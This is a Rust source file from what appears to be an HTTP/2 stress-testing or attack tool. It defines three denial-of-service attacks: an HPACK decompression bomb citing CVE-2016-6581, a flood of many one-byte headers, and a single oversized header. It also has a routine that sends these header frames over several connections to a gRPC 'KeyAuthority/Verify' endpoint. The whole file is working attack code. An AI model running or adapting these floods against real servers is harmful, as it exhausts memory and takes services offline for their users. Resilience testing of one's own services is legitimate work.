//! Header lists that are far larger than a call needs.

use std::sync::Arc;

use anyhow::Result;
use futures_util::future::LocalBoxFuture;

use crate::attack::Attack;
use crate::frames::{self, PAYLOAD_MAX, frame, indexed_literal, literal};
use crate::raw::flood_all;
use crate::stage::Stage;

const CONNECTIONS: usize = 4;

pub(super) const HPACK: Attack = Attack::new(
    "hpack-bomb",
    "header blocks of 16 KiB that decode to 45 MB: one field of 4 KB, indexed 12,000 times (CVE-2016-6581)",
    |stage| {
        // The first field of the dynamic table has the index 62.
        let (field, references) = (indexed_literal(b"x-bomb", &[b'x'; 3_900]), vec![0x80 | 0x3e; PAYLOAD_MAX]);
        bombs(stage, [field, references].concat())
    },
);

pub(super) const MANY: Attack =
    Attack::new("many-headers", "header blocks of 16 KiB with 4,000 fields of one byte", |stage| {
        bombs(stage, literal(b"a", b"").repeat(4_000))
    });

pub(super) const HUGE: Attack = Attack::new("huge-header", "header blocks with one field of 16 KB", |stage| {
    bombs(stage, literal(b"x-huge", &[b'x'; 16_000]))
});

fn bombs(stage: Arc<Stage>, fields: Vec<u8>) -> LocalBoxFuture<'static, Result<()>> {
    Box::pin(async move {
        let mut block = frames::call("/keyauthority.v1.KeyAuthority/Verify", None);
        block.extend(fields);
        block.truncate(PAYLOAD_MAX);
        let batch = |number: u32| {
            let flags = frames::END_HEADERS | frames::END_STREAM;
            let ids = (0..4).map(|place| (number * 4 + place) * 2 + 1);
            ids.flat_map(|id| frame(frames::HEADERS, flags, id, &block)).collect()
        };
        flood_all(&stage, CONNECTIONS, &[], batch).await
    })
}
